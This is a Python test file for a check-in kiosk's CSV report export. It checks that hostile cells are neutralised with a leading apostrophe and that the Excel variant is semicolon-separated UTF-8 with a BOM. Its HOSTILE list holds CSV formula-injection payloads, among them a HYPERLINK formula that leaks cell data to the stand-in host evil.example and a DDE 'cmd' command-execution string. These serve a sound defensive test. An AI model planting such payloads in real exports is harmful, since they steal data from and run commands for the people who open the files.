"""What leaves the kiosk is safe to open: no cell of an exported CSV runs as a formula."""

from __future__ import annotations

import codecs
import csv
import json
from pathlib import Path

from door_support import build_event, payloads

from kiosk.core.checkin import Door
from kiosk.core.csvfile import spreadsheet_safe
from kiosk.core.db import open_db, write

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\tTabbed", "\rReturned"]


def _hostile_event(tmp_path: Path) -> Path:
    event = build_event(tmp_path / "gala.db")
    codes = payloads(event)
    db = open_db(event)
    try:
        with write(db):
            db.execute("UPDATE guests SET organisation = ?, category = ?, table_name = ? WHERE id = 2",
                       HOSTILE[:3])
            db.execute("UPDATE guests SET first_name = ?, last_name = ? WHERE id = 6", HOSTILE[3:5])
        door = Door(db, door=HOSTILE[5])
        door.scan(codes[1])
        door.scan(codes[6])  # on no list: refused, named in the report
        for text in ("=1+2", "@A1", "-1"):
            door.scan(text)  # not tickets: refused, and their raw text reaches the report
    finally:
        db.close()
    return event


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def test_report_csv_cells_never_start_a_formula(tmp_path: Path, kiosk) -> None:
    event = _hostile_event(tmp_path)
    out = tmp_path / "report.csv"
    result = kiosk("--db", str(event), "report", "checkins", "--csv", str(out))
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = _cells(rows)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for text in [*HOSTILE, "=1+2", "@A1"]:
        assert "'" + text in cells, text  # kept whole, behind the apostrophe spreadsheets hide
    assert rows[0][0] == "record" and json.loads(result.stdout)["rows"] == len(rows) - 1


def test_report_for_french_excel_is_semicolon_separated_utf8_with_bom(tmp_path: Path, kiosk) -> None:
    event = _hostile_event(tmp_path)
    out = tmp_path / "report.csv"
    assert kiosk("--db", str(event), "report", "checkins", "--csv", str(out), "--excel").returncode == 0
    raw = out.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    assert raw[3:].split(b"\r\n")[0] == b"record;time;guest_id;first_name;last_name;organisation;" \
                                         b"category;table;list;door;people;status;reason;attention;timezone"
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert {len(r) for r in rows} == {15}
    assert {r[-1] for r in rows[1:]} == {"Europe/Paris"}  # the zone of the report's times
    assert "Stéphane" in _cells(rows) and "'" + HOSTILE[0] in _cells(rows)
    usage = kiosk("--db", str(event), "report", "checkins", "--excel")
    assert usage.returncode == 2 and "--excel needs --csv FILE" in usage.stderr


def test_spreadsheet_safe_leaves_plain_values_alone() -> None:
    assert [spreadsheet_safe(v) for v in ("Ratel", "", 3, None, "1-2", "a=b")] == \
        ["Ratel", "", 3, None, "1-2", "a=b"]
    assert spreadsheet_safe("-") == "'-"
